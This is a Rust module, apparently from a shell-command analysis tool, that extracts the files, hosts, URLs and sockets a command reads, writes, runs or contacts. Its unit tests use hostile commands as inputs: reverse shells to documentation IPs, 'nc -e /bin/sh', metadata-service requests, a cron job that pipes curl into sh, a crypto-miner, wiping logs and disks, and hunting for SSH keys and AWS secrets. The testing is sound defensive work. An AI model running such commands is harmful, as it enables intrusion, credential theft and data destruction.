//! What a command touches: addresses, hosts, URLs and files, and how.

use std::net::IpAddr;

use super::ast::{Command, Compound};
use super::operand_use::{Use, cluster_output, takes_word, use_of, writes_to};
use super::roles::Role;

/// One thing that a command names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Operand<'a> {
    /// What it is.
    pub kind: OperandKind<'a>,
    /// The text that names it: a URL, a host, a path.
    pub text: &'a str,
    /// What the command does with it.
    pub access: Access,
}

/// Kinds of [`Operand`]s.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum OperandKind<'a> {
    /// A URL: its scheme, host and port as written. A host that is an address is found in
    /// [`Operand::address`].
    Url {
        /// Before `://`.
        scheme: &'a str,
        /// Without user, port and brackets.
        host: &'a str,
        /// As written.
        port: Option<u16>,
    },
    /// A host by name or address.
    Host {
        /// Without user, port and brackets.
        host: &'a str,
        /// As written, or the operand after the host.
        port: Option<u16>,
    },
    /// A network (`10.0.0.0/8`).
    Network,
    /// A file or directory.
    Path,
}

/// What a command does with an operand.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Access {
    /// Reads it.
    Read,
    /// Creates, changes or removes it.
    Written,
    /// Runs it.
    Executed,
    /// Talks to it.
    Contacted,
    /// Names it; what for is not known.
    Mentioned,
}

impl Operand<'_> {
    /// The host of a URL or a host operand.
    pub fn host(&self) -> Option<&str> {
        match self.kind {
            OperandKind::Url { host, .. } | OperandKind::Host { host, .. } => Some(host),
            OperandKind::Network | OperandKind::Path => None,
        }
    }

    /// The host, where it is an IPv4 or IPv6 address.
    pub fn address(&self) -> Option<IpAddr> {
        self.host().and_then(|host| host.parse().ok())
    }

    /// The path of a file operand.
    pub fn path(&self) -> Option<&str> {
        (self.kind == OperandKind::Path).then_some(self.text)
    }
}

/// At most this many operands of a command are given.
pub const MAX_OPERANDS: usize = 64;

/// What a command names: its program if that is a path, its redirections, its arguments, in this
/// order. Program text ([`Command::code`]) is searched as well; what it holds is
/// [`Access::Mentioned`].
pub fn operands(command: &Command) -> Vec<Operand<'_>> {
    let mut found = Vec::new();
    if command.path().contains('/') && !command.path().starts_with('[') && !command.path().contains("$(") {
        found.push(path(command.path(), Access::Executed));
    }
    for redirection in &command.redirections {
        let target = redirection.target.text.as_str();
        if let Some(socket) = socket(target) {
            found.push(socket);
        } else if redirection.kind.writes() {
            found.push(path(target, Access::Written));
        } else if redirection.kind.reads() {
            found.push(path(target, Access::Read));
        }
    }
    for assignment in &command.assignments {
        found.extend(classify(&assignment.value.text, Access::Mentioned));
    }
    if command.compound.is_none() || command.compound == Some(Compound::Test) {
        arguments(command, &mut found);
    }
    if let Some(code) = &command.code {
        found.extend(mentions(&code.text));
    }
    found.truncate(MAX_OPERANDS);
    found
}

/// URLs, addresses and absolute paths in any text.
pub fn mentions(text: &str) -> impl Iterator<Item = Operand<'_>> {
    let ends = |c: char| {
        c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',' | ';' | '<' | '>' | '|' | '{' | '}')
    };
    text.split(ends).filter_map(|piece| {
        let found = classify(piece, Access::Mentioned)?;
        (found.kind != OperandKind::Path || (piece.len() > 1 && !piece.starts_with("//"))).then_some(found)
    })
}

fn path(text: &str, access: Access) -> Operand<'_> {
    Operand { kind: OperandKind::Path, text, access }
}

/// Quotes that an argument vector kept around a value.
fn unquoted(text: &str) -> &str {
    let inner = text.strip_prefix(['"', '\'']).unwrap_or(text);
    inner.strip_suffix(['"', '\'']).unwrap_or(inner)
}

/// `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT`, which bash connects to.
fn socket(text: &str) -> Option<Operand<'_>> {
    let rest = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/"))?;
    let (host, port) = rest.split_once('/')?;
    let kind = OperandKind::Host { host, port: port.parse().ok() };
    Some(Operand { kind, text, access: Access::Contacted })
}

/// What a word is by its look alone: a URL, a socket, an address, a path.
fn classify(word: &str, access: Access) -> Option<Operand<'_>> {
    let text = unquoted(word);
    if let Some(found) = socket(text).or_else(|| url(text)) {
        return Some(found);
    }
    let (host, port) = host_and_port(text);
    if host.parse::<IpAddr>().is_ok() {
        let kind = OperandKind::Host { host, port };
        return Some(Operand { kind, text, access: Access::Contacted });
    }
    if let Some((address, bits)) = text.split_once('/')
        && address.parse::<IpAddr>().is_ok()
        && bits.parse::<u8>().is_ok()
    {
        return Some(Operand { kind: OperandKind::Network, text, access: Access::Contacted });
    }
    let is_path = text.starts_with('/') || text.starts_with("./") || text.starts_with("../") || text.starts_with('~');
    is_path.then(|| path(text, access))
}

fn url(text: &str) -> Option<Operand<'_>> {
    let at = text.find("://")?;
    let begin =
        text[..at].rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))).map_or(0, |i| i + 1);
    // The character before the scheme may be wider than a byte.
    let begin = (begin..at).find(|i| text.is_char_boundary(*i))?;
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '|' | ';' | '<' | '>' | ')');
    let end = text[at..].find(ends).map_or(text.len(), |length| at + length);
    let text = &text[begin..end];
    let scheme = &text[..at - begin];
    let authority = text[at - begin + 3..].split(['/', '?', '#']).next().unwrap_or("");
    let (host, port) = host_and_port(authority);
    if scheme.is_empty() || (host.is_empty() && scheme != "file") {
        return None;
    }
    let access = if scheme == "file" { Access::Read } else { Access::Contacted };
    Some(Operand { kind: OperandKind::Url { scheme, host, port }, text, access })
}

/// Splits `user@host:port`, `[v6]:port`.
fn host_and_port(text: &str) -> (&str, Option<u16>) {
    let text = text.rsplit_once('@').map_or(text, |(_, host)| host);
    if let Some(rest) = text.strip_prefix('[')
        && let Some((host, after)) = rest.split_once(']')
    {
        return (host, after.strip_prefix(':').and_then(|port| port.parse().ok()));
    }
    match text.split_once(':') {
        Some((host, port)) if !port.contains(':') => (host, port.parse().ok()),
        _ => (text, None),
    }
}

fn arguments<'a>(command: &'a Command, found: &mut Vec<Operand<'a>>) {
    let family = command.family();
    let usage = use_of(command, command.role());
    let covered = |at: usize| {
        command
            .nested
            .iter()
            .any(|nested| matches!(nested.place, super::ast::Place::Words(from, to) if (from..to).contains(&at)))
    };
    let is_code = |text: &str| command.code.as_ref().is_some_and(|code| code.text == text);
    let code = command.code.is_some() || command.nested.iter().any(|n| n.kind == super::ast::NestedKind::ShellC);
    let offset = command.words.len() - command.args().len();
    let mut plain: Vec<&'a str> = Vec::new();
    let mut words = command.args().iter().enumerate().map(|(at, word)| (offset + at, word.text.as_str()));
    while let Some((at, text)) = words.next() {
        if covered(at) || is_code(text) {
            continue;
        }
        let mode = family == "chmod" && plain.is_empty() && is_mode_change(text);
        if text.len() > 1 && text.starts_with('-') && !mode {
            let (name, value) = match text.split_once('=') {
                Some((name, value)) => (name, Some(value)),
                None => (text, None),
            };
            if writes_to(family, name) {
                match value.or_else(|| words.next().map(|(_, text)| text)) {
                    Some("-") | None => {}
                    Some(value) => found.push(path(unquoted(value), Access::Written)),
                }
            } else if let Some(value) = value {
                found.extend(classify(value.trim_start_matches('@'), Access::Mentioned));
            } else if let Some(attached) = cluster_output(family, text) {
                match attached {
                    "" => found.extend(
                        words.next().filter(|(_, v)| *v != "-").map(|(_, v)| path(unquoted(v), Access::Written)),
                    ),
                    "-" => {}
                    value => found.push(path(value, Access::Written)),
                }
            } else if takes_word(family, name)
                && let Some((_, value)) = words.next()
            {
                let access =
                    if family == "nc" && matches!(name, "-e" | "-c") { Access::Executed } else { Access::Read };
                found.extend(classify(value.trim_start_matches('@'), access));
            }
            continue;
        }
        if family == "dd" {
            if let Some(file) = text.strip_prefix("of=") {
                found.push(path(unquoted(file), Access::Written));
            } else if let Some(file) = text.strip_prefix("if=") {
                found.push(path(unquoted(file), Access::Read));
            }
            continue;
        }
        if family == "find" && matches!(text, ";" | "\\;" | "(" | ")" | "!" | "+" | "{}") {
            continue;
        }
        plain.push(text);
    }
    if usage == Use::Hosts {
        let names = !matches!(command.role(), Role::Download | Role::Upload);
        return hosts(&plain, names, found);
    }
    let last = plain.len().saturating_sub(1);
    for (at, text) in plain.into_iter().enumerate() {
        let text = unquoted(text);
        let access = match usage {
            Use::WritesAfterFirst | Use::ReadsAfterFirst if at == 0 => continue,
            Use::LastWritten if at < last => Access::Read,
            Use::Writes | Use::WritesAfterFirst | Use::LastWritten => Access::Written,
            Use::Reads | Use::ReadsAfterFirst => Access::Read,
            Use::RunsFirst if at == 0 && !code => Access::Executed,
            Use::RunsFirst | Use::Look | Use::Hosts => Access::Mentioned,
        };
        match classify(text, access) {
            Some(operand) => found.push(operand),
            None if access == Access::Mentioned || matches!(text, "-" | "" | "..." | "[...]") || family == "sed" => {}
            None if matches!(family, "scp" | "rsync" | "sftp") && text.contains(':') => {
                let host = host_and_port(text).0;
                found.push(Operand { kind: OperandKind::Host { host, port: None }, text, access: Access::Contacted });
            }
            None => found.push(path(text, access)),
        }
    }
}

/// `+x`, `-w`: what `chmod` does, not an option of it.
fn is_mode_change(text: &str) -> bool {
    text.len() > 1
        && text.starts_with(['-', '+'])
        && text.bytes().skip(1).all(|b| matches!(b, b'r' | b'w' | b'x' | b'X' | b's' | b't'))
}

/// Operands of programs that talk to hosts: a host, and perhaps a port after it. Without `names`,
/// a word without a dot is no host (words of a header whose quotes were lost).
fn hosts<'a>(plain: &[&'a str], names: bool, found: &mut Vec<Operand<'a>>) {
    let mut before_host = true;
    let mut words = plain.iter().copied().peekable();
    while let Some(text) = words.next() {
        match classify(text, Access::Mentioned) {
            Some(Operand { kind: OperandKind::Host { host, port }, text, access }) => {
                let next = words.next_if(|next| port.is_none() && next.parse::<u16>().is_ok());
                let port = port.or_else(|| next.and_then(|next| next.parse().ok()));
                found.push(Operand { kind: OperandKind::Host { host, port }, text, access });
                before_host = false;
            }
            Some(operand) => found.push(operand),
            None if before_host && looks_like_host(text) && (names || text.contains('.') || text == "localhost") => {
                let (host, port) = host_and_port(text.split('/').next().unwrap_or(text));
                let next = words.next_if(|next| port.is_none() && next.parse::<u16>().is_ok());
                let port = port.or_else(|| next.and_then(|next| next.parse().ok()));
                found.push(Operand { kind: OperandKind::Host { host, port }, text, access: Access::Contacted });
                before_host = false;
            }
            None => {}
        }
    }
}

fn looks_like_host(text: &str) -> bool {
    let (host, _) = host_and_port(text.split('/').next().unwrap_or(text));
    !host.is_empty()
        && host.parse::<u64>().is_err()
        && host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_'))
}

#[cfg(test)]
mod tests {
    use super::super::parse_argv;
    use super::*;

    /// Operands of all commands of a line: `r:` read, `w:` written, `x:` executed, `c:` contacted
    /// with host and port, `m:` mentioned.
    fn check(line: &str, expect: &[&str]) {
        let script = parse_argv(line);
        let mut found = Vec::new();
        script.for_each_command(|visit| {
            for operand in operands(visit.command) {
                let sign = match operand.access {
                    Access::Read => 'r',
                    Access::Written => 'w',
                    Access::Executed => 'x',
                    Access::Contacted => 'c',
                    Access::Mentioned => 'm',
                };
                found.push(match operand.kind {
                    OperandKind::Url { host, port, .. } | OperandKind::Host { host, port } => match port {
                        Some(port) => format!("{sign}:{host}:{port}"),
                        None => format!("{sign}:{host}"),
                    },
                    _ => format!("{sign}:{}", operand.text),
                });
            }
        });
        assert_eq!(found, expect, "{line}");
    }

    #[test]
    fn operands_say_what_is_read_written_run_and_contacted() {
        check("curl -fsSL -o /tmp/.x http://203.0.113.66:8080/i.sh", &["w:/tmp/.x", "c:203.0.113.66:8080"]);
        check("curl -so ./b.py http://localhost:9090/b.py", &["w:./b.py", "c:localhost:9090"]);
        check("curl -H X-Forwarded-For: 1 http://169.254.169.254/latest", &["c:169.254.169.254"]);
        check("curl example.com/x.sh", &["c:example.com"]);
        check("curl http://[2001:db8::1]:80/x", &["c:2001:db8::1:80"]);
        check("curl https://user:pass@host.example/x", &["c:host.example"]);
        check("wget -q -O- http://x.example/a", &["c:x.example"]);
        check("wget http://x.example/a -O /tmp/a", &["w:/tmp/a", "c:x.example"]);
        check("bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", &["c:198.51.100.23:4444"]);
        check("nc 198.51.100.7 4444 -e /bin/sh", &["x:/bin/sh", "c:198.51.100.7:4444"]);
        check("nc -zv localhost 8500", &["c:localhost:8500"]);
        check("ssh -p 443 git@198.51.100.9", &["c:198.51.100.9"]);
        check("ping -c 1 127.0.0.1", &["c:127.0.0.1"]);
        check("cat /etc/shadow ../x y", &["r:/etc/shadow", "r:../x", "r:y"]);
        check("cp /a /b /c", &["r:/a", "r:/b", "w:/c"]);
        check("mv a /b", &["w:a", "w:/b"]);
        check("rm -rf /var/log ~/.bash_history", &["w:/var/log", "w:~/.bash_history"]);
        check("chmod u+s /tmp/hello", &["w:/tmp/hello"]);
        check("chmod +x /tmp/a b", &["w:/tmp/a", "w:b"]);
        check("chmod -R 777 /tmp/a", &["w:/tmp/a"]);
        check("curl -H Authorization: Bearer AQ http://10.96.0.1/api", &["c:10.96.0.1"]);
        check("sh -c echo '* * * * * curl http://h.example:8220/a | sh' > /c", &["w:/c", "c:h.example:8220"]);
        check("[kworker/0:0]", &[]);
        check("ssh db1", &["c:db1"]);
        check("dd if=/dev/zero of=/dev/sda bs=1M", &["r:/dev/zero", "w:/dev/sda"]);
        check("sed -i s/a/b/ /etc/hosts", &["w:/etc/hosts"]);
        check("grep -rn aws_secret /home", &["r:/home"]);
        check("sh -c echo a >> /etc/cron.d/x 2>/dev/null", &["w:/etc/cron.d/x", "w:/dev/null"]);
        check("bash /tmp/x.sh arg", &["x:/tmp/x.sh"]);
        check("python3 x.py", &["x:x.py"]);
        check("/tmp/.x/kinsing", &["x:/tmp/.x/kinsing"]);
        check("scp /r.csv batch@10.0.5.20:/srv/", &["r:/r.csv", "c:10.0.5.20"]);
        check("tee /etc/resolv.conf", &["w:/etc/resolv.conf"]);
        check(
            "python3 -c s.connect((\"198.51.100.23\",4444));pty.spawn(\"/bin/bash\")",
            &["c:198.51.100.23", "m:/bin/bash"],
        );
        check("zmap -p 6379 10.0.0.0/8 -o results.csv", &["w:results.csv", "c:10.0.0.0/8"]);
        check("xmrig -o stratum+tcp://xmr.pool.example:45700 -u a", &["c:xmr.pool.example:45700"]);
        check("find / -name id_rsa -exec cat {} ;", &["r:/", "r:{}"]);
        check("echo é://x ://y http:// éhttp://z", &["c:z"]);
    }
}
